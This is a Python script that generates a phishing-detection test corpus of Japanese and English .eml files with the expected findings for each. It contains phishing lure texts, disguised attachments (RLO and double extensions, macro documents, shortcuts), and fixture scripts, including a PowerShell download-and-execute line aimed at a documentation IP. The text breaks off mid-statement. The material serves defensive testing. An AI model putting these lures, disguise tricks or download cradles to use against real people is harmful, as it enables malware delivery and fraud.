#!/usr/bin/env python3
"""Writes the mail test corpus: the .eml files of this folder and
expected.test, the findings each must give (exactly those codes).

Every message is built here byte for byte, so the corpus is deterministic
(fixed dates, ids, zip timestamps and encryption headers) and rerunning the
script reproduces the committed files. Names, domains and addresses are
invented; addresses use documentation ranges (RFC 5737, RFC 3849). The
storage links point at real service host names with made-up paths, since
the storage_link finding is about those hosts.

    python3 tests/cases/mail/make_corpus.py
"""
import base64
import json
import os
import struct
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))

# --------------------------------------------------------------- encodings

def b64(data, width=76):
    text = base64.b64encode(data).decode()
    return "\n".join(text[i:i + width] for i in range(0, len(text), width)).encode() + b"\n"


def ew(text, charset="UTF-8", codec=None):
    """An RFC 2047 B encoded word."""
    data = text.encode(codec or charset)
    return "=?%s?B?%s?=" % (charset, base64.b64encode(data).decode())


def ewq(text):
    """An RFC 2047 Q encoded word in UTF-8."""
    out = []
    for byte in text.encode("utf-8"):
        ch = chr(byte)
        if ch.isalnum() and byte < 128:
            out.append(ch)
        elif ch == " ":
            out.append("_")
        else:
            out.append("=%02X" % byte)
    return "=?UTF-8?Q?%s?=" % "".join(out)


def rfc2231(name, charset="UTF-8", codec="utf-8"):
    """filename*=charset''percent-encoded, as RFC 2231 writes it."""
    enc = "".join(chr(b) if (chr(b).isalnum() and b < 128) or chr(b) in ".-_" else "%%%02X" % b
                  for b in name.encode(codec))
    return "filename*=%s''%s" % (charset, enc)


def rfc2231_continued(name, parts=3):
    """filename*0*=, filename*1*=, ...: RFC 2231 continuations, split
    between characters, never inside a percent-encoded triplet."""
    tokens = [chr(b) if (chr(b).isalnum() and b < 128) or chr(b) in ".-_" else "%%%02X" % b
              for b in name.encode("utf-8")]
    size = -(-len(tokens) // parts)
    chunks = []
    for i in range(0, len(tokens), size):
        piece = "".join(tokens[i:i + size])
        n = i // size
        chunks.append(("filename*%d*=UTF-8''%s" if n == 0 else "filename*%d*=%s") % (n, piece))
    return ";\n\t".join(chunks)


# ---------------------------------------------------------------- payloads

def fake_pe():
    """A minimal PE32 image: DOS header, stub text, PE signature, COFF and
    optional-header magic. Enough for magic-byte classification."""
    image = bytearray(1024)
    image[0:2] = b"MZ"
    struct.pack_into("<I", image, 0x3C, 0x80)
    image[0x4E:0x4E + 39] = b"This program cannot be run in DOS mode."
    image[0x80:0x84] = b"PE\0\0"
    struct.pack_into("<HHIIIHH", image, 0x84, 0x14C, 1, 0x5F5E1000, 0, 0, 0xE0, 0x0102)
    struct.pack_into("<H", image, 0x98, 0x10B)
    image[0x200:0x210] = b"\x55\x8b\xec\x83\xec\x10\x68\x00\x10\x40\x00\xff\x15\x00\x20\x40"
    return bytes(image)


def fake_lnk():
    header = struct.pack("<I16sI", 0x4C, bytes.fromhex("0114020000000000c000000000000046"), 0x80)
    return header + b"\0" * 52 + "C:\\Windows\\System32\\cmd.exe".encode("utf-16le")


def fake_pdf(text="report"):
    return (b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
            b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n% " + text.encode() +
            b"\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n")


def fake_jpeg():
    return b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + b"\x00" * 64 + b"\xff\xd9"


OLE_MAGIC = bytes.fromhex("d0cf11e0a1b11ae1")


def fake_ole(with_vba):
    body = bytearray(OLE_MAGIC + b"\0" * 504)
    body += "Root Entry".encode("utf-16le") + b"\0" * 54
    body += "WordDocument".encode("utf-16le") + b"\0" * 40
    if with_vba:
        body += "_VBA_PROJECT".encode("utf-16le") + b"\0" * 40
        body += b"Attribute VB_Name = \"ThisDocument\"\nSub AutoOpen()\nShell \"cmd /c calc\"\nEnd Sub\n"
    return bytes(body)


def ooxml(macro):
    types = ('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
             'content-types"><Override PartName="/word/document.xml" ContentType="application/'
             + ('vnd.ms-word.document.macroEnabled.main+xml' if macro else
                'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml') +
             '"/></Types>')
    members = [("[Content_Types].xml", types.encode()),
               ("_rels/.rels", b'<?xml version="1.0"?><Relationships/>'),
               ("word/document.xml", b'<?xml version="1.0"?><w:document><w:body/></w:document>')]
    if macro:
        members.append(("word/vbaProject.bin", fake_ole(True)))
    return make_zip(members, deflate=True)

# --------------------------------------------------------------- zip files

CRC_TABLE = []
for _n in range(256):
    _c = _n
    for _ in range(8):
        _c = (_c >> 1) ^ 0xEDB88320 if _c & 1 else _c >> 1
    CRC_TABLE.append(_c)


def zipcrypto(data, password, crc):
    """Traditional PKWARE encryption with a fixed 12-byte header, so the
    output is the same on every run."""
    keys = [0x12345678, 0x23456789, 0x34567890]

    def crc_byte(c, b):
        return (c >> 8) ^ CRC_TABLE[(c ^ b) & 0xFF]

    def update(b):
        keys[0] = crc_byte(keys[0], b)
        keys[1] = (keys[1] + (keys[0] & 0xFF)) & 0xFFFFFFFF
        keys[1] = (keys[1] * 134775813 + 1) & 0xFFFFFFFF
        keys[2] = crc_byte(keys[2], keys[1] >> 24)

    for b in password.encode():
        update(b)
    out = bytearray()
    for p in bytes(range(1, 12)) + bytes([(crc >> 24) & 0xFF]) + data:
        t = (keys[2] | 2) & 0xFFFF
        out.append(p ^ (((t * (t ^ 1)) >> 8) & 0xFF))
        update(p)
    return bytes(out)


def make_zip(members, deflate=False, password=None, name_encoding="utf-8"):
    """members: (name, bytes). Fixed timestamps; UTF-8 flag on non-ASCII
    names unless name_encoding says otherwise (CP932, as Japanese Windows
    writes them)."""
    local = bytearray()
    central = bytearray()
    dos_time, dos_date = 0x6000, 0x58A1  # 2024-05-01 12:00
    for name, data in members:
        raw_name = name.encode(name_encoding)
        flags = 0
        if name_encoding == "utf-8" and not name.isascii():
            flags |= 0x800
        crc = zlib.crc32(data) & 0xFFFFFFFF
        if deflate:
            c = zlib.compressobj(9, zlib.DEFLATED, -15)
            stored = c.compress(data) + c.flush()
            method = 8
        else:
            stored = data
            method = 0
        if password is not None:
            stored = zipcrypto(stored, password, crc)
            flags |= 1
        offset = len(local)
        local += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, flags, method, dos_time, dos_date,
                             crc, len(stored), len(data), len(raw_name), 0) + raw_name + stored
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, flags, method, dos_time,
                               dos_date, crc, len(stored), len(data), len(raw_name), 0, 0, 0, 0,
                               0x20, offset) + raw_name
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(central),
                      len(local), 0)
    return bytes(local + central + end)


def crc16(data):
    crc = 0
    for b in data:
        crc ^= b
        for _ in range(8):
            crc = (crc >> 1) ^ 0xA001 if crc & 1 else crc >> 1
    return crc


def make_lzh(members):
    """An LHA archive of stored (-lh0-) members with level-0 headers, the
    format of the .lzh attachments in the pension-service case; names in
    CP932 as Japanese archivers wrote them."""
    out = bytearray()
    for name, data in members:
        raw_name = name.encode("cp932")
        body = (b"-lh0-" + struct.pack("<IIIBB", len(data), len(data), 0x58A16000, 0x20, 0) +
                bytes([len(raw_name)]) + raw_name + struct.pack("<H", crc16(data)))
        out += bytes([len(body), sum(body) & 0xFF]) + body + data
    out += b"\0"
    return bytes(out)

# ---------------------------------------------------------------- messages

RECEIVED_INTERNAL = ("from mx1.pension.example (mx1.pension.example [10.20.0.5])\n"
                     "\tby mailhub.pension.example (Postfix) with ESMTP id 7C1A2B3D4E\n"
                     "\tfor <soumu@pension.example>; Mon, 13 May 2024 09:12:03 +0900")


def received_from(host, ip, by="mx1.pension.example"):
    return ("from %s (%s [%s])\n\tby %s (Postfix) with ESMTPS id 4F2A9C0D11\n"
            "\tfor <soumu@pension.example>; Mon, 13 May 2024 09:12:01 +0900" % (host, host, ip, by))


def auth(spf="pass", dkim="none", dmarc="none", mailfrom="", dkim_d="", server="mx1.pension.example"):
    parts = [server]
    parts.append("spf=%s smtp.mailfrom=%s" % (spf, mailfrom) if mailfrom else "spf=%s" % spf)
    parts.append("dkim=%s header.d=%s" % (dkim, dkim_d) if dkim_d else "dkim=%s" % dkim)
    parts.append("dmarc=%s" % dmarc)
    return ";\n\t".join(parts)


class Mail:
    def __init__(self, subject_header, from_, to="総務部 <soumu@pension.example>", date=None,
                 msgid=None, sender_host="mail.sender.example", sender_ip="203.0.113.25",
                 reply_to=None, return_path=None, auth_results=None, mailer=None, extra=()):
        self.headers = []
        rp = return_path if return_path is not None else from_.split("<")[-1].rstrip(">")
        self.headers.append(("Return-Path", "<%s>" % rp))
        if auth_results:
            for ar in auth_results:
                self.headers.append(("Authentication-Results", ar))
        self.headers.append(("Received", RECEIVED_INTERNAL))
        self.headers.append(("Received", received_from(sender_host, sender_ip)))
        self.headers.append(("From", from_))
        self.headers.append(("To", to))
        if reply_to:
            self.headers.append(("Reply-To", reply_to))
        self.headers.append(("Subject", subject_header))
        self.headers.append(("Date", date or "Mon, 13 May 2024 09:11:58 +0900"))
        self.headers.append(("Message-ID", msgid or "<20240513091158.%d@%s>" % (
            abs(hash_str(subject_header)) % 10**8, sender_host)))
        if mailer:
            self.headers.append(("X-Mailer", mailer))
        self.headers.extend(extra)

    def render(self, content_headers, body):
        out = bytearray()
        for name, value in self.headers + [("MIME-Version", "1.0")] + content_headers:
            out += name.encode() + b": " + (value if isinstance(value, bytes) else value.encode("utf-8")) + b"\n"
        out += b"\n" + body
        return bytes(out)


def hash_str(value):
    data = value if isinstance(value, bytes) else value.encode("utf-8")
    return zlib.crc32(data)


def text_part(text, charset="UTF-8", codec=None, cte=None, subtype="plain"):
    data = text.encode(codec or charset)
    if cte is None:
        cte = "7bit" if charset.upper() == "ISO-2022-JP" else "base64"
    headers = [("Content-Type", "text/%s; charset=%s" % (subtype, charset)),
               ("Content-Transfer-Encoding", cte)]
    body = b64(data) if cte == "base64" else data + b"\n"
    return headers, body


def attachment(disposition_params, data, content_type="application/octet-stream", type_params=""):
    headers = [("Content-Type", content_type + (";\n\t" + type_params if type_params else "")),
               ("Content-Transfer-Encoding", "base64"),
               ("Content-Disposition", "attachment;\n\t" + disposition_params)]
    return headers, b64(data)


def named(name, data, content_type="application/octet-stream"):
    """An attachment whose name is written as an RFC 2047 word when it is not
    ASCII, as most Japanese mailers do (name= and filename=)."""
    if name.isascii():
        return attachment('filename="%s"' % name, data, content_type, 'name="%s"' % name)
    word = ew(name, "ISO-2022-JP", "iso2022_jp") if not ("\u202e" in name) else ew(name)
    return attachment('filename="%s"' % word, data, content_type, 'name="%s"' % word)


def multipart(parts, boundary=None, subtype="mixed", close=True):
    boundary = boundary or "=_b%08x" % (hash_str(repr([p[1][:32] for p in parts])) & 0xFFFFFFFF)
    body = bytearray(b"This is a multi-part message in MIME format.\n")
    for headers, content in parts:
        body += b"\n--" + boundary.encode() + b"\n"
        for name, value in headers:
            body += name.encode() + b": " + value.encode("utf-8") + b"\n"
        body += b"\n" + content
    if close:
        body += b"\n--" + boundary.encode() + b"--\n"
    return [("Content-Type", 'multipart/%s; boundary="%s"' % (subtype, boundary))], bytes(body)


CASES = []


def case(name, raw, codes, subject=None, attachments=None, indicators=(), error=None):
    CASES.append(dict(name=name, raw=raw, codes=sorted(codes), subject=subject,
                      attachments=attachments, indicators=list(indicators), error=error))


def simple(mail, parts):
    headers, body = multipart(parts)
    return mail.render(headers, body)

# ------------------------------------------------- Japanese targeted mails

JA_BODY_END = "\n\n何卒よろしくお願いいたします。\n"

# The pension-service pattern: a public body's name, an LZH attachment with a
# program inside, ISO-2022-JP throughout.
s = "【厚生労働省】医療費通知に関する資料の送付"
m = Mail(ew(s, "ISO-2022-JP", "iso2022_jp"), "%s <info@mhlw-notice.example>" % ew("厚生労働省 保険局", "ISO-2022-JP", "iso2022_jp"),
         sender_host="smtp.mhlw-notice.example", sender_ip="203.0.113.25", mailer="Microsoft Outlook 16.0")
lzh = make_lzh([("医療費通知一覧.exe", fake_pe())])
case("ja_01_pension_lzh_exe.eml", simple(m, [
    text_part("各位\n\n医療費通知に関する資料を添付いたしますので、ご確認ください。" + JA_BODY_END, "ISO-2022-JP", "iso2022_jp"),
    named("医療費通知.lzh", lzh, "application/x-lzh-compressed")]),
    ["archive_with_executable", "lure:public_notice"], subject=s, attachments=["医療費通知.lzh"],
    indicators=["ipv4 203.0.113.25", "email-addr info@mhlw-notice.example", "domain mhlw-notice.example",
                "filename 医療費通知一覧.exe"])

# Raw Shift_JIS subject (no encoded word), Shift_JIS body, storage link.
s = "アンケートご協力のお願い"
m = Mail(s.encode("cp932"), "企画課 <kikaku@survey-office.example>", sender_ip="198.51.100.14")
headers, body = text_part("ご担当者様\n\n下記よりアンケート用紙をダウンロードしてください。\n"
                          "https://firestorage.jp/download/3f9a1c0b2d7e44\n" + JA_BODY_END, "Shift_JIS", "cp932", "8bit")
case("ja_02_survey_storage_sjis.eml", m.render(headers, body), ["storage_link", "lure:survey"], subject=s,
     attachments=[], indicators=["url https://firestorage.jp/download/3f9a1c0b2d7e44", "domain firestorage.jp"])

# EUC-JP encoded-word subject; a screen saver whose name is reversed by RLO.
s = "履歴書の送付について"
m = Mail(ew(s, "EUC-JP", "euc_jp"), "山田 花子 <hanako.yamada@freemail.example>", sender_ip="198.51.100.33")
case("ja_03_resume_rlo_scr.eml", simple(m, [
    text_part("採用ご担当者様\n\n求人を拝見し応募いたしました。履歴書を添付します。" + JA_BODY_END, "EUC-JP", "euc_jp", "8bit"),
    attachment(rfc2231("履歴書_\u202excod.scr"), fake_pe())]),
    ["rlo_filename", "executable_attachment", "shortcut_or_script_attachment", "lure:job_application"],
    subject=s, attachments=["履歴書_\u202excod.scr"])

s = "取材のお願い（週刊経済）"
m = Mail(ew(s), "週刊経済 編集部 <henshu@weekly-keizai.example>", sender_ip="198.51.100.40")
case("ja_04_interview_double_ext.eml", simple(m, [
    text_part("広報ご担当者様\n\n貴社の取り組みについて取材をお願いしたく、ご連絡いたしました。" + JA_BODY_END),
    named("取材依頼書.docx.exe", fake_pe())]),
    ["double_extension", "executable_attachment", "lure:interview"], subject=s, attachments=["取材依頼書.docx.exe"])

s = "会議資料の送付"
m = Mail(ew(s, "ISO-2022-JP", "iso2022_jp"), "企画部 <kikaku@pension-partner.example>", sender_ip="198.51.100.41")
case("ja_05_padded_extension.eml", simple(m, [
    text_part("関係者各位\n\n明日の会議資料をお送りします。" + JA_BODY_END, "ISO-2022-JP", "iso2022_jp"),
    attachment(rfc2231("会議資料.pdf" + " " * 24 + ".exe"), fake_pe())]),
    ["padded_extension", "double_extension", "executable_attachment", "lure:internal_document"],
    subject=s, attachments=["会議資料.pdf" + " " * 24 + ".exe"])

# Raw Shift_JIS file name, a "PDF" holding a program.
s = "請求書送付のお知らせ"
m = Mail(ew(s, "Shift_JIS", "cp932"), "経理部 <keiri@supplier-corp.example>", sender_ip="198.51.100.42")
pdf_exe = fake_pe() + b"\x00pdf"
parts = [text_part("いつもお世話になっております。\n今月分の請求書をお送りします。" + JA_BODY_END, "Shift_JIS", "cp932", "8bit")]
parts.append(([("Content-Type", "application/pdf"), ("Content-Transfer-Encoding", "base64"),
               ("Content-Disposition", "attachment; filename=\"請求書_5月分.pdf\"")], b64(pdf_exe)))
headers, body = multipart(parts)
raw = m.render(headers, body)
raw = raw.replace("請求書_5月分.pdf".encode("utf-8"), "請求書_5月分.pdf".encode("cp932"))
case("ja_06_disguised_pdf_sjis_name.eml", raw, ["disguised_executable", "lure:invoice_delivery"], subject=s,
     attachments=["請求書_5月分.pdf"])

# PPAP: encrypted zip, password in the body, a program inside.
s = "【再送】資料送付"
m = Mail(ew(s), "業務課 <gyomu@partner-firm.example>", sender_ip="198.51.100.43")
enc_zip = make_zip([("資料.exe", fake_pe())], deflate=True, password="Qx7pL2vw")
case("ja_07_ppap_zip_with_password.eml", simple(m, [
    text_part("先ほどの資料を再送いたします。\n\nパスワード：Qx7pL2vw\n" + JA_BODY_END),
    named("資料.zip", enc_zip, "application/zip")]),
    ["encrypted_archive", "archive_with_executable", "lure:resend"], subject=s, attachments=["資料.zip"],
    indicators=["filename 資料.exe"])

s = "報告書"
m = Mail(ew(s), "調査室 <chosa@partner-firm.example>", sender_ip="198.51.100.44")
locked_zip = make_zip([("報告書.docx", ooxml(False))], deflate=True, password="別途送付-9931")
case("ja_08_encrypted_zip_locked.eml", simple(m, [
    text_part("報告書をお送りします。解凍用の情報は別のメールでお送りします。" + JA_BODY_END),
    named("報告書.zip", locked_zip, "application/zip")]),
    ["encrypted_archive"], subject=s, attachments=["報告書.zip"])

s = "人事異動について"
m = Mail(ew(s, "ISO-2022-JP", "iso2022_jp"), "人事部 <jinji@pension-group.example>", sender_ip="198.51.100.45")
case("ja_09_personnel_docm.eml", simple(m, [
    text_part("各位\n\n4月1日付の人事異動一覧を送付します。マクロを有効にしてご覧ください。" + JA_BODY_END, "ISO-2022-JP", "iso2022_jp"),
    named("人事異動一覧.docm", ooxml(True), "application/vnd.ms-word.document.macroEnabled.12")]),
    ["office_macro", "lure:personnel_notice"], subject=s, attachments=["人事異動一覧.docm"])

s = "給与明細のご案内"
m = Mail(s.encode("euc_jp"), "給与係 <kyuyo@pension-group.example>", sender_ip="198.51.100.46")
case("ja_10_salary_ole_macro_euc_header.eml", simple(m, [
    text_part("今月の明細を添付します。" + JA_BODY_END, "EUC-JP", "euc_jp", "8bit"),
    named("給与明細.xls", fake_ole(True), "application/vnd.ms-excel")]),
    ["office_macro", "lure:personnel_notice"], subject=s, attachments=["給与明細.xls"])

s = "新型コロナウイルス感染者の発生について"
m = Mail(ew(s), "保健管理室 <hoken@health-center.example>", sender_ip="198.51.100.47")
case("ja_11_disaster_lnk.eml", simple(m, [
    text_part("職員の皆様\n\n感染者の情報を添付しますので確認してください。" + JA_BODY_END),
    named("感染者情報.lnk", fake_lnk())]),
    ["shortcut_or_script_attachment", "lure:disaster_alert"], subject=s, attachments=["感染者情報.lnk"])

s = "セキュリティ警告：不正アクセスの検知"
m = Mail(ew(s), "情報システム部 <it-support@security-desk.example>", sender_ip="198.51.100.48")
js_zip = make_zip([("確認手順.js", b"var s=new ActiveXObject('WScript.Shell');s.Run('cmd /c whoami');\n")], deflate=True)
case("ja_12_security_js_in_zip.eml", simple(m, [
    text_part("不正アクセスを検知しました。添付の手順で確認してください。" + JA_BODY_END),
    named("確認手順.zip", js_zip, "application/zip")]),
    ["archive_with_executable", "lure:security_alert"], subject=s, attachments=["確認手順.zip"])

s = "メールボックス容量の警告"
m = Mail(ewq(s), "システム管理者 <admin@mailbox-center.example>", sender_ip="198.51.100.49")
case("ja_13_mailbox_hta.eml", simple(m, [
    text_part("メールボックスの容量が上限に近づいています。添付の手順を実行してください。" + JA_BODY_END),
    named("容量拡張手順.hta", b"<html><head><HTA:APPLICATION id=x></head><script language=VBScript>"
          b"CreateObject(\"WScript.Shell\").Run \"calc\"</script></html>\n", "application/hta")]),
    ["shortcut_or_script_attachment", "lure:account_warning"], subject=s, attachments=["容量拡張手順.hta"])

s = "【重要】アカウントの確認"
m = Mail(ew(s, "ISO-2022-JP", "iso2022_jp"), "年金サービス <support@nenkin-service.example>", sender_ip="198.51.100.50")
html = ('<html><body><p>お客様のアカウントを確認するため、以下からログインしてください。</p>'
        '<p><a href="http://203.0.113.80/login.php?id=77">https://www.nenkin-service.example/login</a></p>'
        '</body></html>')
headers, body = text_part(html, "ISO-2022-JP", "iso2022_jp", subtype="html")
case("ja_14_account_anchor_mismatch_html.eml", m.render(headers, body), ["anchor_mismatch", "lure:account_warning"],
     subject=s, attachments=[], indicators=["url http://203.0.113.80/login.php?id=77"])

s = "大使ご来訪の日程について"
m = Mail(ew(s), "儀典室 <gitenshitsu@embassy-liaison.example>", sender_ip="198.51.100.51")
case("ja_15_vip_visit_docx.eml", simple(m, [
    text_part("来週の大使ご来訪の日程表をお送りします。" + JA_BODY_END),
    named("日程表.docx", ooxml(False), "application/vnd.openxmlformats-officedocument.wordprocessingml.document")]),
    ["lure:vip_visit"], subject=s, attachments=["日程表.docx"])

s = "製品についての問い合わせ"
m = Mail(ew(s), "鈴木 一郎 <suzuki@customer-mail.example>", sender_ip="198.51.100.52")
case("ja_16_inquiry_dropbox.eml", simple(m, [
    text_part("御社製品の不具合について、写真をこちらにアップロードしました。\n"
              "https://www.dropbox.com/s/k2j4h5g6f7d8s9a/photos.zip?dl=1\n" + JA_BODY_END)]),
    ["storage_link", "lure:inquiry"], subject=s, attachments=[])

s = "社内規程改定のお知らせ"
m = Mail(ew(s), "総務部 <soumu@pension.example>", reply_to="総務部 <pension.soumu@gmail.com>",
         return_path="bounce@mailer.bulk-sender.example", sender_host="mailer.bulk-sender.example",
         sender_ip="198.51.100.53",
         auth_results=[auth("fail", "fail", "fail", "bounce@mailer.bulk-sender.example", "bulk-sender.example")])
case("ja_17_spoofed_internal_sender.eml", simple(m, [
    text_part("職員各位\n\n規程改定の内容を添付しますのでご確認ください。" + JA_BODY_END),
    named("規程改定.docx", ooxml(False), "application/vnd.openxmlformats-officedocument.wordprocessingml.document")]),
    ["from_replyto_mismatch", "return_path_mismatch", "spf_fail", "dkim_fail", "lure:personnel_notice"],
    subject=s, attachments=["規程改定.docx"],
    indicators=["email-addr pension.soumu@gmail.com", "email-addr bounce@mailer.bulk-sender.example",
                "ipv4 198.51.100.53"])

# ------------------------------------------------- English targeted mails

EN_END = "\n\nBest regards,\n"

s = "Invitation: guest speaker for our lecture series"
m = Mail(s, "Prof. Jane Miller <jmiller@univ-events.example>", sender_ip="192.0.2.20")
case("en_20_interview_lecture.eml", simple(m, [
    text_part("Dear Dr. Sato,\n\nWe would be honoured to have you as a guest speaker. The programme is attached." + EN_END),
    named("programme.pdf", fake_pdf(), "application/pdf")]),
    ["lure:interview"], subject=s, attachments=["programme.pdf"])

s = "Job application for the analyst position"
m = Mail(s, "Alex Chen <alex.chen@mailbox-free.example>", sender_ip="192.0.2.21")
case("en_21_job_zip_double_ext.eml", simple(m, [
    text_part("Hello,\n\nPlease find my CV and cover letter attached." + EN_END),
    named("application.zip", make_zip([("resume.pdf.exe", fake_pe())], deflate=True), "application/zip")]),
    ["archive_with_executable", "double_extension", "lure:job_application"], subject=s,
    attachments=["application.zip"], indicators=["filename resume.pdf.exe"])

s = "Complaint about a defective product"
m = Mail(s, "Mark Davis <mdavis@buyer-mail.example>", sender_ip="192.0.2.22")
case("en_22_complaint_scr_in_zip.eml", simple(m, [
    text_part("The unit I received does not work. Photos attached." + EN_END),
    named("photos.zip", make_zip([("IMG_0231.jpg.scr", fake_pe()), ("IMG_0232.jpg", fake_jpeg())]), "application/zip")]),
    ["archive_with_executable", "double_extension", "lure:inquiry"], subject=s, attachments=["photos.zip"])

s = "Customer satisfaction survey 2024"
m = Mail(s, "Research Team <research@market-panel.example>", sender_ip="192.0.2.23")
case("en_23_survey_google_drive.eml", simple(m, [
    text_part("Please download the questionnaire here:\nhttps://drive.google.com/file/d/1AbCdEfGhIjKlMnOp/view?usp=sharing\n" + EN_END)]),
    ["storage_link", "lure:survey"], subject=s, attachments=[])

s = "Meeting minutes - internal use only"
m = Mail(s, "Board Office <board@holding-group.example>", sender_ip="192.0.2.24")
case("en_24_internal_docm.eml", simple(m, [
    text_part("Attached are the minutes. Enable editing and content to view them." + EN_END),
    named("minutes.docm", ooxml(True), "application/vnd.ms-word.document.macroEnabled.12")]),
    ["office_macro", "lure:internal_document"], subject=s, attachments=["minutes.docm"])

s = "Delegation visit: updated schedule"
m = Mail(s, "Protocol Office <protocol@foreign-liaison.example>", sender_ip="192.0.2.25")
case("en_25_vip_delegation.eml", simple(m, [
    text_part("The ambassador and the delegation will arrive on Tuesday. Schedule attached." + EN_END),
    named("schedule.pdf", fake_pdf("schedule"), "application/pdf")]),
    ["lure:vip_visit"], subject=s, attachments=["schedule.pdf"])

s = "Notice from the Ministry of Health"
m = Mail(s, "Ministry Notices <notice@health-ministry.example>", sender_ip="192.0.2.26")
case("en_26_public_notice_disguised.eml", simple(m, [
    text_part("Please read the attached notice." + EN_END),
    named("notice.pdf", fake_pe(), "application/pdf")]),
    ["disguised_executable", "lure:public_notice"], subject=s, attachments=["notice.pdf"])

s = "Security alert: critical vulnerability in your VPN"
m = Mail(s, "IT Security <security@it-helpdesk.example>", sender_ip="192.0.2.27")
html = ('<html><body><p>A critical issue affects your VPN client. Update now:</p>'
        '<a href="https://vpn-update.attacker-site.example/get">https://vpn.pension.example/update</a>'
        '</body></html>')
headers, body = text_part(html, subtype="html")
case("en_27_security_anchor_mismatch.eml", m.render(headers, body), ["anchor_mismatch", "lure:security_alert"],
     subject=s, attachments=[], indicators=["domain vpn-update.attacker-site.example"])

s = "Earthquake evacuation guidance"
m = Mail(s, "Disaster Desk <desk@prefecture-info.example>", sender_ip="192.0.2.28")
case("en_28_disaster_double_ext_lnk.eml", simple(m, [
    text_part("Open the attached evacuation map." + EN_END),
    named("map.pdf.lnk", fake_lnk())]),
    ["double_extension", "shortcut_or_script_attachment", "lure:disaster_alert"], subject=s, attachments=["map.pdf.lnk"])

s = "Q3 bonus and salary adjustments"
m = Mail(s, "HR <hr@company-payroll.example>", sender_ip="192.0.2.29")
case("en_29_personnel_xlsm.eml", simple(m, [
    text_part("See the attached table." + EN_END),
    named("adjustments.xlsm", ooxml(True), "application/vnd.ms-excel.sheet.macroEnabled.12")]),
    ["office_macro", "lure:personnel_notice"], subject=s, attachments=["adjustments.xlsm"])

s = "Resending: corrected version of the contract"
m = Mail(s, "Legal <legal@contract-partner.example>", sender_ip="192.0.2.30")
case("en_30_resend_ole_macro.eml", simple(m, [
    text_part("Apologies, the earlier file was wrong." + EN_END),
    named("contract.doc", fake_ole(True), "application/msword")]),
    ["office_macro", "lure:resend"], subject=s, attachments=["contract.doc"])

s = "Invoice #4471 - payment due"
m = Mail(s, "Accounts <accounts@vendor-billing.example>", sender_ip="192.0.2.31")
case("en_31_invoice_box_link.eml", simple(m, [
    text_part("Your invoice is available at https://app.box.com/s/9x8y7z6w5v4u3t2s1r\n" + EN_END)]),
    ["storage_link", "lure:invoice_delivery"], subject=s, attachments=[])

s = "Parcel delivery failed - tracking number 4471-0093"
m = Mail(s, "Courier <noreply@parcel-tracking.example>", sender_ip="192.0.2.32")
case("en_32_delivery_ps1.eml", simple(m, [
    text_part("Run the attached label tool to reschedule." + EN_END),
    named("label.ps1", b"IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.99/a')\n", "text/plain")]),
    ["shortcut_or_script_attachment", "lure:invoice_delivery"], subject=s, attachments=["label.ps1"])

s = "Your mailbox quota is exceeded"
m = Mail(s, "Mail Admin <admin@quota-notice.example>", sender_ip="192.0.2.33")
html = ('<html><body><p>Your mailbox is full.</p><p><a href="https://mail-quota.example/verify?u=1">'
        'Verify your account</a></p></body></html>')
headers, body = text_part(html, subtype="html")
case("en_33_account_quota_link_text.eml", m.render(headers, body), ["lure:account_warning"], subject=s,
     attachments=[], indicators=["url https://mail-quota.example/verify?u=1"])

s = "Urgent wire transfer today"
m = Mail(s, "CEO <ceo@victim-corp.example>", reply_to="<ceo.victimcorp@gmail.com>",
         return_path="ceo@victim-corp.example", sender_ip="192.0.2.34",
         auth_results=[auth("softfail", "none", "fail", "ceo@victim-corp.example", server="mx.victim-corp.example")])
headers, body = text_part("Are you at your desk? I need you to handle a transfer before noon." + EN_END)
case("en_34_bec_softfail_replyto.eml", m.render(headers, body), ["from_replyto_mismatch", "spf_fail"],
     subject=s, attachments=[])

# --------------------------------------- benign mail that must stay clean

s = "Autumn collection: new arrivals"
m = Mail(s, "Shop News <news@shop-brand.example>", return_path="b-7731@bounces.esp-mailer.example",
         sender_host="o1.esp-mailer.example", sender_ip="192.0.2.40",
         auth_results=[auth("pass", "pass", "pass", "b-7731@bounces.esp-mailer.example", "shop-brand.example")])
html = ('<html><head><style>a{color:red}</style></head><body><h1>New arrivals</h1>'
        '<p><a href="https://click.shop-brand.example/t/ab12?u=https%3A%2F%2Fwww.shop-brand.example%2Fnew">'
        'https://www.shop-brand.example/new</a></p>'
        '<p><a href="https://click.shop-brand.example/u/ab12">Unsubscribe</a></p></body></html>')
headers, body = multipart([text_part("New arrivals: https://www.shop-brand.example/new\n"),
                           text_part(html, subtype="html")], subtype="alternative")
case("ok_40_newsletter_esp.eml", m.render(headers, body), [], subject=s, attachments=[])

s = "請求書送付のご案内（2024年4月分）"
m = Mail(ew(s, "ISO-2022-JP", "iso2022_jp"), "経理課 <keiri@sample-corp.co.jp>",
         reply_to="経理課 <keiri@mail.sample-corp.co.jp>", return_path="keiri@sample-corp.co.jp",
         sender_host="smtp.sample-corp.co.jp", sender_ip="192.0.2.41",
         auth_results=[auth("pass", "pass", "pass", "keiri@sample-corp.co.jp", "sample-corp.co.jp")])
case("ok_41_invoice_own_domain_rfc2231.eml", simple(m, [
    text_part("いつもお世話になっております。4月分の請求書を添付いたします。" + JA_BODY_END, "ISO-2022-JP", "iso2022_jp"),
    attachment(rfc2231_continued("請求書_2024年4月.pdf"), fake_pdf("invoice"), "application/pdf")]),
    ["lure:invoice_delivery"], subject=s, attachments=["請求書_2024年4月.pdf"])

s = "打ち合わせ資料"
m = Mail(ew(s), "田中 <tanaka@sample-corp.co.jp>", sender_ip="192.0.2.42")
case("ok_42_zip_of_documents.eml", simple(m, [
    text_part("資料一式をお送りします。" + JA_BODY_END),
    named("資料一式.zip", make_zip([("report.2024.pdf", fake_pdf()), ("meeting notes.docx", ooxml(False)),
                                   ("見積書.xlsx", ooxml(False))], deflate=True, name_encoding="cp932"), "application/zip")]),
